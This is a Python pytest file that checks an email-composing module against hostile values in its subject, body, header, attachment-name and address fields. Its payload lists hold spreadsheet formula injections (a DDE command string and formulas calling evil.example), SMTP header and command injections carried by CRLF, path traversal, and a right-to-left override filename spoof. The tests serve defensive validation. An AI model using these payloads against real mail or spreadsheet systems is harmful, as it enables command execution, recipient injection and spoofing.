"""Hostile cells in every field that reaches a mail: templates of both languages, headers, names of files and lists, addresses."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import replace
from email import message_from_bytes
from email.policy import default
from pathlib import Path

import pytest

from automations.channels.message import compose
from automations.errors import MailFailed
from automations.model import Attachment, Mail
from tests.contracts.channels import MAIL
from tests.notice_facts import BLANK, EN, facts
from tests.scene import renderer
from tests.smtpscene import SENDER, parsed
from tests.test_rendering import PAYLOADS, Visible

FORMULAS = [
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("https://evil.example","click")',
    '=IMPORTXML("https://evil.example","//a")',
    "+1+2",
    "-1+cmd|x",
    "@SUM(A1)",
    "\t=1+1",
    "＝1+1",
]
HEADERS = [
    "x\r\nRCPT TO:<all@example.cn>",
    "x\r\n.\r\nMAIL FROM:<evil@example.cn>",
    "=?utf-8?B?DQpCY2M6IGFsbEBleGFtcGxlLmNu?=",
    '"<all@example.cn>, <b@example.cn>"',
    "../../etc/passwd",
    "x\u202egpj.exe",
]
HOSTILE = [*PAYLOADS, *FORMULAS, *HEADERS]
FIELDS: dict[str, Callable[[Mail, str], Mail]] = {
    "subject": lambda mail, text: replace(mail, subject=text),
    "reader": lambda mail, text: replace(mail, reader=text),
    "text": lambda mail, text: replace(mail, text=text),
    "page": lambda mail, text: replace(mail, html=text),
    "list": lambda mail, text: replace(mail, list_id=text),
    "name of the reply address": lambda mail, text: replace(mail, reply_to=f"{text} <owner@example.cn>"),
    "file name": lambda mail, text: replace(mail, attachments=(Attachment(text, "text/csv", b"x"),)),
    "media type": lambda mail, text: replace(mail, attachments=(Attachment("a.csv", text, b"x"),)),
}
FULL = replace(MAIL, list_id="weekly", reply_to="owner@example.cn", attachments=(Attachment("a.csv", "text/csv", b"x"),))
TEMPLATES = [*EN, "several"]
UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")


def shared(name: str) -> list[str]:
    """Every fifth of them, another fifth for the next template: together the templates meet them all several times."""
    return HOSTILE[TEMPLATES.index(name) % 5 :: 5]


def test_there_are_more_than_forty_of_them(record_property: Callable[[str, int], None]) -> None:
    record_property("cases of hostile cells", len(HOSTILE) * (len(FIELDS) + 2 * 3) + sum(len(shared(name)) for name in TEMPLATES))
    assert len(set(HOSTILE)) >= 40


@pytest.mark.parametrize("field", FIELDS)
def test_nothing_in_a_field_adds_a_header_a_part_or_a_reader(field: str) -> None:
    calm = parsed(compose(FULL, SENDER))
    for payload in HOSTILE:
        try:
            content = compose(FIELDS[field](FULL, payload), SENDER)
        except MailFailed as refused:
            assert "is not one e-mail address" in str(refused) and field == "name of the reply address"
            continue
        message = message_from_bytes(content, policy=default)
        assert content.isascii() and max(map(len, content.splitlines())) <= 998
        assert (set(message.keys()) | {"List-Id"}, len(list(message.walk()))) == (set(calm.keys()), len(list(calm.walk()))), payload
        assert [each.addr_spec for each in message["To"].addresses] == ["wang@example.cn"]
        assert len(message["Reply-To"].addresses) == 1
        assert not [text for text in map(str, message.values()) if UNSEEN.search(text)]
        for part in message.walk():
            name = part.get_filename() or ""
            assert not UNSEEN.search(name) and Path(name).name == name and len(name) <= 80


@pytest.mark.parametrize("field", ["to", "reply_to"])
def test_an_address_is_exactly_one_or_the_mail_does_not_leave(field: str) -> None:
    for payload in HOSTILE:
        for address in (payload, f"wang@example.cn{payload}", f"{payload}wang@example.cn"):
            try:
                message = parsed(compose(replace(MAIL, **{field: address}), SENDER))  # type: ignore[arg-type]
            except MailFailed:
                continue
            found = message["To" if field == "to" else "Reply-To"].addresses
            assert len(found) == 1 and re.fullmatch(r"[^\s@<>,\"]+@[a-z.]+[^\s@<>,\"]*", found[0].addr_spec), address


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_hostile_cell_stays_a_text_in_english_too(name: str) -> None:
    def filled(text: str) -> tuple[str, str, str]:
        fields = {**{field: text for field in BLANK if isinstance(BLANK[field], str)}, "rows": [{"heading": text, "value": text}] * 3}
        one = facts(**fields)
        mail = renderer().render_several("en", text, [one] * 2) if name == "several" else renderer().render(name, "en", one)
        return mail.subject, mail.text, mail.html

    calm = Visible(filled("x")[2])
    for payload in shared(name):
        subject, text, page = filled(payload)
        seen = Visible(page)
        assert sorted(tag for tag in seen.tags if tag != "br") == sorted(tag for tag in calm.tags if tag != "br"), payload
        assert seen.attributes == calm.attributes and subject.isprintable()
        assert "49" not in subject + text and not UNSEEN.search(text + page)
